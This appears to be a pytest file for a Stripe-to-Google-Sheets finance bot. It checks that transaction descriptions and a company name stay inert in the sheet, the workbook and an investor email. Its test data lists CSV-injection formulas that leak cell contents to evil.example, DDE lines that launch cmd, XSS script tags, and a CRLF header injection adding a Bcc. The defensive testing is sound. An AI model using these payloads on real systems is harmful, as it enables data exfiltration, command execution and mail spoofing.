"""Injection (issue 7, item 6): text from Stripe, and COMPANY_NAME, is inert wherever it lands.

Descriptions that look like spreadsheet formulas (``=``, ``+``, ``-``, ``@``, the CSV-injection
classics, a tab or a quote in front), HTML and script go through the real `daily` into the
Google Sheet (as ``stringValue`` cells, never ``formulaValue``) and the workbook (cells of type
``s``, no ``<f>`` element in any sheet's XML), unchanged. The investor email shows no Stripe
text; its one free text, COMPANY_NAME, is escaped in the HTML, kept literal in the plain text
and kept on one line in the subject.
"""

from __future__ import annotations

import email
import email.policy
import re
import zipfile
from collections.abc import Iterator
from datetime import UTC, datetime, time
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.periods import Month
from bot.sandbox import SandboxAccount, SandboxServer
from tests.conftest import Cli, days_ago, today_utc
from tests.fakes.sheets import FakeSheetsServer, Formula, serving, write_service_account_key

DAY = days_ago(2)
LAST = Month.of(today_utc()).previous()
SID = "1InjectionSheet0123456789abcdefghijklmnopqr"

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
    "=cmd|' /C calc'!A0",
    "+1-2@SUM(A1)",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "'=1+1",
    "0x1F",
    "1e3",
    "2026-10-31",
    "TRUE",
    '<script>alert("xss")</script>',
    "<img src=x onerror=alert(1)> & \"quotes\" 'single'",
    "=1+1\n=2+2",
    "Order #42 — café, naïve ☕",
]


def ts(hour: int, minute: int) -> int:
    return int(datetime.combine(DAY, time(hour, minute), tzinfo=UTC).timestamp())


@pytest.fixture
def stripe_text(sandbox_account: SandboxAccount, sandbox: SandboxServer) -> dict[str, str]:
    """One charge per payload on DAY; id -> description."""
    # The closed month's reports are not ready: `daily` defers it, this is about the sync.
    sandbox.data_available_end = int(
        datetime.combine(LAST.last_day, time(), tzinfo=UTC).timestamp()
    )
    out = {}
    for i, text in enumerate(PAYLOADS):
        t = sandbox_account.add_transaction(created=ts(6, i), amount=1000 + i, fee=30, currency="usd",
                                            reporting_category="charge", description=text)  # fmt: skip
        out[t["id"]] = text
    return out


@pytest.fixture
def sheets() -> Iterator[FakeSheetsServer]:
    with serving(SID) as fake:
        yield fake


def test_inert_in_the_google_sheet(
    cli: Cli, sheets: FakeSheetsServer, stripe_text: dict[str, str], tmp_path: Path
) -> None:
    key = tmp_path / "credentials.json"
    write_service_account_key(key, token_uri=sheets.token_uri)
    env = {
        "GOOGLE_SHEET_ID": SID,
        "GOOGLE_APPLICATION_CREDENTIALS": str(key),
        "GOOGLE_SHEETS_API_URL": sheets.url,
    }
    for _ in range(2):  # written, then rewritten in place
        run = cli("daily", "--date", DAY.isoformat(), env=env)
        assert run.exit_code == 0, run.stderr
    grid = sheets.grid(SID, "Transactions")
    desc_col = grid[0].index("description")
    rows = {r[0]: (n, r) for n, r in enumerate(grid) if r and r[0] in stripe_text}
    assert set(rows) == set(stripe_text)
    for txn_id, text in stripe_text.items():
        n, row = rows[txn_id]
        assert row[desc_col] == text and not isinstance(row[desc_col], Formula), (
            text,
            row[desc_col],
        )
        cell = sheets.cell(SID, "Transactions", f"{chr(ord('A') + desc_col)}{n + 1}")
        assert cell["userEnteredValue"] == {"stringValue": text}, cell
    # No formula anywhere on revbot's tabs (the Charts tab's own QUERY helpers aside).
    for title in ("Daily", "Monthly", "Transactions"):
        assert not any(isinstance(v, Formula) for r in sheets.grid(SID, title) for v in r), title


def test_inert_in_the_workbook(cli: Cli, stripe_text: dict[str, str]) -> None:
    for _ in range(2):
        run = cli("daily", "--date", DAY.isoformat())
        assert run.exit_code == 0, run.stderr
    path = Path(cli.env["DATA_DIR"]) / "dashboard.xlsx"
    ws = load_workbook(path)["Transactions"]
    header = [c.value for c in ws[1]]
    desc_col = header.index("description")
    seen = {}
    for row in ws.iter_rows(min_row=2):
        if row[0].value in stripe_text:
            seen[row[0].value] = row[desc_col]
    assert set(seen) == set(stripe_text)
    for txn_id, text in stripe_text.items():
        cell = seen[txn_id]
        assert cell.value == text and cell.data_type == "s", (text, cell.value, cell.data_type)
    # In the file itself: no formula element in any worksheet, and the text is stored as text.
    with zipfile.ZipFile(path) as z:
        sheets_xml = {
            n: z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")
        }
        shared = (
            z.read("xl/sharedStrings.xml").decode()
            if "xl/sharedStrings.xml" in z.namelist()
            else ""
        )
    assert sheets_xml
    for name, xml in sheets_xml.items():
        assert not re.search(r"<(?:\w+:)?f[\s>/]", xml), name
    assert "&lt;script&gt;" in shared + "".join(sheets_xml.values())


COMPANY = (
    '<script>alert("x")</script> =HYPERLINK("http://evil.example") & Co\r\nBcc: eve@evil.example'
)


def test_company_name_is_escaped_in_the_email(
    cli: Cli, stripe_text: dict[str, str], sandbox: SandboxServer
) -> None:
    sandbox.data_available_end = None  # the closed month is ready
    env = {"EMAIL_FROM": "Acme Finance <finance@acme.example>", "INVESTOR_EMAILS": "ann@fund.example",
           "COMPANY_NAME": COMPANY}  # fmt: skip
    run = cli("monthly", "--month", str(LAST), env=env)
    assert run.exit_code == 0, run.stderr
    outbox = Path(cli.env["DATA_DIR"]) / "outbox"
    [eml] = outbox.glob("*.eml")
    [html_file] = outbox.glob("*.html")
    msg = email.message_from_bytes(eml.read_bytes(), policy=email.policy.default)
    # One line in the subject: the CR LF did not start a header of its own.
    assert msg["Bcc"] is None and "eve@evil.example" not in str(msg["To"])
    assert "\n" not in str(msg["Subject"]) and str(msg["Subject"]).startswith(
        '<script>alert("x")</script>'
    )
    html = msg.get_body(("html",)).get_content()
    text = msg.get_body(("plain",)).get_content()
    for body in (html, html_file.read_text()):
        assert "<script>" not in body and "&lt;script&gt;" in body
        assert '<a href="http://evil.example' not in body
    assert '<script>alert("x")</script> =HYPERLINK("http://evil.example") & Co' in " ".join(
        text.split()
    )
    # Stripe's own text never reaches the email at all.
    for desc in stripe_text.values():
        if len(desc) > 6 and not desc.startswith(("=1+1", "-1", "TRUE")):
            assert desc not in html and desc not in text, desc
